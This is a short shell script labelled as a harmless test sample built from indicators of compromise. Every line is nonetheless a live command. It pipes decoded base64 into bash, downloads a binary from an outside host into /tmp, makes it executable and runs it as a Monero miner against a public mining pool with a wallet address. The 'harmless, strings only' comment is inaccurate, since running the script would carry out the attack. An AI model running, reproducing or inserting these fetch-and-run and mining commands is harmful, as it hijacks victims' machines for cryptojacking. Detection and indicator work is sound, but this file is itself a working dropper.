#!/bin/sh
# harmless test sample built from seed 000's IOCs (strings only; never run it)
echo IyEvYmluL2Jhc2gK | base64 -d | /bin/bash
wget -q -O /tmp/javae https://accrochezvous.fr/javae
chmod +x /tmp/javae
/tmp/javae -o pool.supportxmr.com:443 -k --tls --cpu-max-threads-hint=60 -u 42s7H81wKKbggZsnd5geEeC7ANWUDhkqf7xhdSgaBd9ZE61qwwh7ch1gBQkE5FbvabAdNTeNV18nBNTpioUqmgHj4h4kks2
